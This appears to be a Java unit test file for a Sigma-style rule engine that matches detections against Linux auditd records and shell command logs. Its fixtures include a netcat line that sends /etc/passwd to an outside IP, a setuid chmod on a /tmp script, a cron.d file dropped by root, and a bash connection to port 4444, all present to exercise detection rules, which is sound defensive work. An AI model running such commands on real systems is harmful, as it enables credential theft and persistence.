package dwell.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import dwell.event.Action;
import dwell.event.Dataset;
import dwell.event.Field;
import dwell.event.Outcome;
import org.junit.jupiter.api.Test;

/** Rules over the audit log: its records, programs it saw started, files made, connections. */
final class AuditRulesTest {
  private static final String EXEC =
      """
      type=SYSCALL msg=audit(1715000000.123:501): arch=c000003e syscall=59 success=yes exit=0 \
      a0=55d a1=55e a2=55f a3=8 items=2 ppid=90 pid=91 auid=1000 uid=0 gid=0 euid=0 tty=pts0 \
      ses=3 comm="chmod" exe="/usr/bin/chmod" key="perm"\u001dARCH=x86_64 SYSCALL=execve AUID="ada"
      type=EXECVE msg=audit(1715000000.123:501): argc=3 a0="chmod" a1="u+s" a2=2F746D702F6120622E7368
      type=CWD msg=audit(1715000000.123:501): cwd="/root"
      type=PATH msg=audit(1715000000.123:501): item=0 name="/usr/bin/chmod" inode=7 nametype=NORMAL
      """;
  private static final String MADE =
      """
      type=SYSCALL msg=audit(1715000001.000:502): arch=c000003e syscall=257 success=yes exit=3 \
      a0=ffffff9c ppid=90 pid=92 uid=0 comm="tee" exe="/usr/bin/tee"
      type=CWD msg=audit(1715000001.000:502): cwd="/etc/cron.d"
      type=PATH msg=audit(1715000001.000:502): item=0 name="/etc/cron.d" nametype=PARENT
      type=PATH msg=audit(1715000001.000:502): item=1 name="job" nametype=CREATE
      """;
  private static final String CONNECTED =
      """
      type=SYSCALL msg=audit(1715000002.000:503): arch=c000003e syscall=42 success=no exit=-115 \
      a0=3 ppid=90 pid=93 uid=33 comm="bash" exe="/usr/bin/bash"
      type=SOCKADDR msg=audit(1715000002.000:503): saddr=0200115CC63364070000000000000000
      """;

  private final MemoryCursor cursor = new MemoryCursor();

  private MemoryCursor.Made audit(String record, String shape) {
    return cursor.add(Dataset.AUDIT).record(record).with(Field.SHAPE, shape);
  }

  private boolean auditd(String selection) {
    return rule("product: linux\nservice: auditd", selection);
  }

  private boolean rule(String logsource, String selection) {
    return Rules.hits(Rules.one(logsource, "s:\n" + selection.indent(4) + "condition: s"), cursor);
  }

  @Test
  void aMapAsksForOneRecord() {
    audit(EXEC, "audit/execve");
    assertThat(auditd("type: EXECVE\na0: chmod\na1: u+s")).isTrue();
    assertThat(auditd("type: EXECVE\na2: '/tmp/a b.sh'")).isTrue();
    assertThat(auditd("type: SYSCALL\na0: chmod")).isFalse();
    assertThat(auditd("type: EXECVE\na3: '8'")).isFalse();
    assertThat(auditd("type: PATH\nname|endswith: /chmod\nnametype: NORMAL")).isTrue();
    assertThat(auditd("type: CWD\nnametype: CREATE")).isFalse();
  }

  @Test
  void whatARecordLacksIsTakenFromItsEvent() {
    audit(EXEC, "audit/execve");
    assertThat(auditd("type: SYSCALL\nsyscall: execve\ncwd: /root\nuid: 0\nkey: perm")).isTrue();
    assertThat(auditd("type: SYSCALL\nsyscall: 59")).isTrue();
    assertThat(auditd("SYSCALL: execve\nAUID: ada")).isTrue();
    assertThat(auditd("type: SYSCALL\nsyscall: openat")).isFalse();
  }

  @Test
  void numbersOfCallsHaveNames() {
    audit(MADE, "audit/syscall");
    assertThat(auditd("type: SYSCALL\nsyscall: openat")).isTrue();
    assertThat(auditd("type: SYSCALL\nsyscall: execve")).isFalse();
  }

  @Test
  void anEventOfAnotherCarrierHasItsColumns() {
    audit("{\"no\": \"log of auditd\"}", "audit/execve")
        .with(Field.EXECUTABLE, "/usr/bin/chmod")
        .with(Field.COMMAND_LINE, "chmod u+s /tmp/a");
    assertThat(auditd("type: EXECVE\na0: chmod\na1: u+s\nexe|endswith: /chmod")).isTrue();
  }

  @Test
  void keywordsSeeTheRecord() {
    audit(EXEC, "audit/execve").with(Field.COMMAND_LINE, "chmod u+s /tmp/a b.sh");
    String detection = "s:\n    type: EXECVE\nk:\n    - 'a b.sh'\ncondition: s and k";
    assertThat(Rules.hits(Rules.one("product: linux\nservice: auditd", detection), cursor))
        .isTrue();
  }

  private void command(Dataset dataset, String line) {
    cursor
        .add(dataset)
        .did(Action.COMMAND, Outcome.UNKNOWN)
        .with(Field.PROCESS, "bash")
        .with(Field.USER, "ada")
        .with(Field.COMMAND_LINE, line);
  }

  private boolean process(String selection) {
    return rule("category: process_creation\nproduct: linux", selection);
  }

  @Test
  void aShellLineIsEachOfItsPrograms() {
    command(Dataset.SHELL, "cat /etc/passwd | nc -q1 192.0.2.9 9001 > out");
    assertThat(process("Image|endswith: /nc\nCommandLine|contains: '-q1'")).isTrue();
    assertThat(process("Image|endswith: /cat\nCommandLine|contains: '-q1'")).isFalse();
    assertThat(process("Image|endswith: /bash\nCommandLine|contains: '| nc'")).isTrue();
    assertThat(process("User: ada\nImage|endswith: /nc")).isTrue();
  }

  @Test
  void aLineOfOneProgramIsThatProgram() {
    command(Dataset.SHELL, "uptime -p");
    assertThat(process("Image|endswith: /uptime\nCommandLine: uptime -p")).isTrue();
    assertThat(process("Image|endswith: /bash")).isFalse();
  }

  @Test
  void sudoAndCronStartPrograms() {
    command(Dataset.SUDO, "/usr/bin/tail -n 5 /var/log/syslog");
    assertThat(process("Image: /usr/bin/tail\nCommandLine|contains: syslog")).isTrue();
    command(Dataset.CRON, "cd /opt && ./run");
    assertThat(process("Image|endswith: /run")).isTrue();
  }

  @Test
  void parentsAreKnownByTheirExec() {
    audit("", "audit/execve")
        .did(Action.COMMAND, Outcome.SUCCESS)
        .with(Field.HOST, "web")
        .with(Field.PID, 90L)
        .with(Field.EXECUTABLE, "/usr/sbin/apache2")
        .with(Field.COMMAND_LINE, "apache2 -k start");
    audit("", "audit/execve")
        .did(Action.COMMAND, Outcome.SUCCESS)
        .with(Field.HOST, "web")
        .with(Field.PID, 91L)
        .with(Field.PARENT_PID, 90L)
        .with(Field.EXECUTABLE, "/usr/bin/id")
        .with(Field.COMMAND_LINE, "id");
    assertThat(process("ParentImage|endswith: /apache2\nImage|endswith: /id")).isTrue();
    assertThat(process("ParentCommandLine: apache2 -k start")).isTrue();
    assertThat(process("ParentImage|endswith: /id")).isFalse();
  }

  @Test
  void filesMade() {
    audit(MADE, "audit/syscall").with(Field.EXECUTABLE, "/usr/bin/tee");
    String source = "category: file_event\nproduct: linux";
    assertThat(rule(source, "TargetFilename: /etc/cron.d/job\nImage|endswith: /tee")).isTrue();
    assertThat(rule(source, "TargetFilename: /etc/cron.d")).isFalse();
  }

  @Test
  void connectionsOfPrograms() {
    audit(CONNECTED, "audit/syscall").with(Field.EXECUTABLE, "/usr/bin/bash");
    String source = "category: network_connection\nproduct: linux";
    assertThat(
            rule(source, "DestinationIp: 198.51.100.7\nDestinationPort: 4444\nInitiated: 'true'"))
        .isTrue();
    assertThat(rule(source, "DestinationIp|cidr: 10.0.0.0/8")).isFalse();
    assertThat(rule(source, "Image|endswith: /bash")).isTrue();
  }

  @Test
  void whatMadeNoFileAndNoConnectionIsNone() {
    audit(EXEC, "audit/execve");
    String rule = "s:\n    Image: nothing\ncondition: not s";
    for (String category : new String[] {"file_event", "network_connection"}) {
      RuleSet set = Rules.one("category: " + category + "\nproduct: linux", rule);
      assertThat(Rules.hits(set, cursor)).as(category).isFalse();
    }
  }

  @Test
  void brokenRecordsAreRead() {
    for (int cut = 0; cut < EXEC.length(); cut += 3) {
      AuditRecord.read(EXEC.substring(0, cut), 0);
      AuditRecord.read(EXEC.substring(cut), 1);
    }
  }
}
